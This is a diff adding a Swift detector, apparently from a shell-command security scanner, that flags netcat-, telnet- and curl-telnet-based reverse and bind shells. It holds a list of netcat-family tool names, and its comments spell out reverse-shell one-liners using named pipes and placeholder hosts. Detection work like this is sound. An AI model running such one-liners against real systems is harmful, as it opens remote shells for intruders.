@@ -1,0 +1,170 @@
+import Bytes
+
+/// Netcat and its kin, telnet and curl's telnet, with a shell at the near end: run by the tool (`-e`, `-c`), in a pipe, or
+/// through a named pipe. Port checks (`-z`), transfers and relays have no shell and are none.
+enum NetcatMatcher {
+  private static let names: Set<String> = [
+    "nc", "ncat", "netcat", "nc.exe", "ncat.exe", "nc64.exe", "nc.traditional", "nc.openbsd", "rcat", "rustcat", "pwncat",
+    "cryptcat", "sbd", "dbd", "netcat.traditional", "netcat.openbsd",
+  ]
+
+  static func matches(_ shell: ShellText) -> [ShellMatch] {
+    var found: [ShellMatch] = []
+    for (index, command) in shell.commands.enumerated() where found.count < 16 {
+      for (place, word) in command.words.enumerated() where word.count <= 64 {
+        let name = ShellWords.baseName(word)
+        guard let first = name.count > 1 ? lowercased(name[0]) : nil, "ncrpstd".utf8.contains(first) else { continue }
+        if name == "telnet" || name.equalsIgnoringCase("telnet.exe") {
+          if let one = telnet(shell, index, place) { found.append(one) }
+        } else if names.contains(name.string.lowercased()), let one = netcat(shell, index, place) {
+          found.append(one)
+        }
+      }
+    }
+    if let one = curlTelnet(shell) { found.append(one) }
+    return found
+  }
+
+  // MARK: Arguments
+
+  private struct Arguments {
+    var positional: [ByteView] = []
+    var runs = false
+    var listens = false
+    var scans = false
+    var isUDP = false
+    var listenPort: ByteView?
+    var input: ByteView?
+  }
+
+  /// The words after the tool, also those that stand in quotes.
+  private static func words(_ shell: ShellText, _ index: Int, after place: Int) -> [ByteView] {
+    var words = Array(shell.commands[index].words.dropFirst(place + 1))
+    var next = index
+    while next + 1 < shell.commands.count, words.count < 24,
+      shell.commands[next].end == 0x22 || shell.commands[next].end == 0x27
+    {
+      next += 1
+      words += shell.commands[next].words
+    }
+    return words
+  }
+
+  private static func arguments(_ words: [ByteView]) -> Arguments {
+    var result = Arguments()
+    var index = 0
+    while index < words.count {
+      let word = words[index]
+      let next = index + 1 < words.count ? words[index + 1] : ByteView("")
+      index += 1
+      if word[0] == 0x2D, word.count > 1 {
+        if word[1] == 0x2D {
+          if word.hasPrefix("--exec") || word.hasPrefix("--sh-exec") {
+            let value = word.cut(0x3D)?.after ?? next
+            if ShellWords.isShell(value) { result.runs = true }
+            if word.firstIndex(of: 0x3D) == nil { index += 1 }
+          } else if word == "--listen" {
+            result.listens = true
+          } else if word == "--udp" {
+            result.isUDP = true
+          }
+          continue
+        }
+        for place in 1..<word.count {
+          switch word[place] {
+          case 0x6C: result.listens = true
+          case 0x7A: result.scans = true
+          case 0x75: result.isUDP = true
+          default: break
+          }
+        }
+        let letters = word.slice(1)
+        let asksForProgram = letters.firstIndex(of: 0x65) != nil || letters.firstIndex(of: 0x63) != nil || letters == "s" || letters == "r"
+        if asksForProgram, ShellWords.isShell(next) {
+          result.runs = true
+          index += 1
+        } else if letters.array.last == 0x70 {
+          result.listenPort = next
+          index += 1
+        } else if "wsixXqoIOTm".utf8.contains(letters.array.last ?? 0), letters.count <= 4, next[0] != 0x2D, Endpoint.port(next) != nil {
+          index += 1
+        }
+      } else if ShellWords.isRedirection(word) {
+        let isLone = ShellWords.isLoneRedirection(word)
+        let isInput = word[0] == 0x3C || word.hasPrefix("0<")
+        if isInput { result.input = isLone ? next : word }
+        if isLone { index += 1 }
+      } else if word == "listen" {
+        result.listens = true
+      } else if !(word == "connect") {
+        result.positional.append(word)
+      }
+    }
+    return result
+  }
+
+  // MARK: Judgement
+
+  private static func netcat(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
+    let arguments = arguments(words(shell, index, after: place))
+    guard !arguments.scans else { return nil }
+    let isPiped = !arguments.runs && (isPipedWithShell(shell, index) || isFedByFIFO(shell, arguments))
+    guard arguments.runs || isPiped else { return nil }
+    let technique = isPiped && shell.hasFIFO ? "mkfifo_nc" : "nc"
+    return match(shell, index, technique, arguments)
+  }
+
+  private static func telnet(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
+    let arguments = arguments(words(shell, index, after: place))
+    guard arguments.positional.count >= 2, isPipedWithShell(shell, index) || isFedByFIFO(shell, arguments) else { return nil }
+    return match(shell, index, "telnet", arguments)
+  }
+
+  /// `mkfifo f; sh -i <f 2>&1 | nc … >f` has the shell next to the client; `mkfifo f; nc … <f | sh >f` too; and
+  /// `sh <f >g & nc … <g >f` only the named pipe between.
+  private static func isPipedWithShell(_ shell: ShellText, _ index: Int) -> Bool {
+    shell.isPipedWithShell(index)
+      || shell.hasFIFO && shell.commands.contains { ShellWords.isShellReadingInput(ShellText.withoutPrefix($0.words)) && $0.words.count > 1 }
+  }
+
+  /// A client, the only one, whose input is the named pipe: `mknod p p && nc host 1 0<p`.
+  private static func isFedByFIFO(_ shell: ShellText, _ arguments: Arguments) -> Bool {
+    guard shell.hasFIFO, !arguments.listens, arguments.positional.count >= 2 else { return false }
+    let clients = shell.commands.filter { command in
+      command.words.contains { names.contains(ShellWords.baseName($0).slice(0, 24).string) }
+    }
+    // A page that lost its `<` leaves `0/tmp/p`.
+    let mangled = arguments.positional.contains { $0.hasPrefix("0/") }
+    return clients.count <= 1 && (arguments.input != nil || mangled)
+  }
+
+  private static func match(_ shell: ShellText, _ index: Int, _ technique: String, _ arguments: Arguments) -> ShellMatch? {
+    let positional = arguments.positional
+    var endpoint = Endpoint(host: nil, port: nil)
+    var isBind = arguments.listens
+    if isBind {
+      let ports = [arguments.listenPort].compactMap { $0 } + positional.reversed()
+      endpoint.port = ports.lazy.compactMap { shell.variables.resolve($0).withView { Endpoint.port($0) } }.first
+    } else if positional.count >= 2 {
+      endpoint = shell.endpoint(positional[0], positional[1])
+    } else if let only = positional.first, let pair = Endpoint.pair(only) {
+      endpoint = pair
+    } else {
+      // Without a far end it can only wait for one.
+      isBind = arguments.listenPort != nil
+      if !isBind, positional.isEmpty { return nil }
+    }
+    return ShellMatch(
+      technique: technique, endpoint: endpoint, isBind: isBind, transport: arguments.isUDP ? "udp" : "tcp",
+      place: shell.commands[index].range.lowerBound)
+  }
+
+  /// `C='curl -Ns telnet://host:port'; $C | sh | $C`
+  private static func curlTelnet(_ shell: ShellText) -> ShellMatch? {
+    guard let place = shell.text.firstIndex(of: ByteView("telnet://")), shell.hasPipedShell else { return nil }
+    var end = place
+    while end < shell.text.count, end - place < 300, !" '\"|;\n\t<>".utf8.contains(shell.text[end]) { end += 1 }
+    guard let endpoint = Endpoint.pair(shell.text.slice(place, end)) else { return nil }
+    return ShellMatch(technique: "telnet", endpoint: endpoint, place: place)
+  }
+}
